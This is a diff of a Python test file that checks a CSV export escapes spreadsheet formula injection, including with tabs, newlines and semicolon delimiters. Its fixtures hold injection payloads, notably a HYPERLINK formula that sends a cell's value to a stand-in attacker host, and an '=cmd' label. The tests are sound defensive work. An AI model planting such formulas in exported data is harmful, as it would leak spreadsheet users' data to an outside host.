@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -25,6 +26,7 @@ from tests.console.conftest import form_token
 
 Bearer = Callable[..., dict[str, str]]
 MARK = "\N{BOM}"
+FORMULA_SIGNS = tuple("=+-@＝")  # noqa: RUF001
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1"]  # noqa: RUF001
 PLAIN = ["a=b", 'she said "no", then left', "one\r\ntwo", "ünï☕\u2028", "'quoted", "a;b", ",", ""]
 RESOLUTION = Resolution("Lost.", "Sorry.", "A label.", "A new one.")
@@ -148,8 +150,18 @@ def test_a_text_comes_back_whole_and_in_spreadsheets_behind_an_apostrophe(words:
     made = b"".join(as_csv.as_csv(columns, [[{"text": words, "labels": [words], "score": -1.5}]], spreadsheet=spreadsheet))
     (head, row) = csv.reader(io.StringIO(made.decode().removeprefix(MARK), newline=""))
     assert head == ["text", "labels", "score"]
-    told = f"'{words}" if spreadsheet and words in FORMULAS else words
+    risky = spreadsheet and re.sub("[\t\r\n]", "", words)[:1] in FORMULA_SIGNS
+    told = re.sub(r"^([\t\r\n]?)", r"\1'", words, count=1) if risky else words
     assert row == [told, told, "-1.5"]
+
+
+def test_no_formula_is_left_where_a_spreadsheet_splits_at_semicolons() -> None:
+    columns = (Column("text", "text", ""), Column("labels", "labels", ""))
+    row = {"text": 'Hello;=1+1; -2;\t@SUM(1)\n=HYPERLINK("x");plain', "labels": ["ann", "=cmd"]}
+    made = b"".join(as_csv.as_csv(columns, [[row]], spreadsheet=True)).decode().removeprefix(MARK)
+    for line in csv.reader(io.StringIO(made, newline=""), delimiter=";", quoting=csv.QUOTE_NONE):
+        for cell in line:
+            assert not cell.strip(' "').startswith(FORMULA_SIGNS), cell
 
 
 @pytest.mark.usefixtures("busy")
@@ -184,6 +196,7 @@ def test_the_filters_of_a_page_are_those_of_its_download(
     assert {row["id"] for row in by_program(f"cases?until={edge}")} == {row["id"] for row in every if row["opened_at"] < edge}
     assert by_program("messages?since=2027-01-01") == by_program("answers?until=2020-01-01") == []
     assert len(by_program("messages?channel=form")) == 1
+    assert by_program("messages?words=parcel") == by_program("messages"), "programs do not look into what was really written"
 
 
 def test_while_messages_come_in_each_that_was_there_is_told_once(busy: Company) -> None:
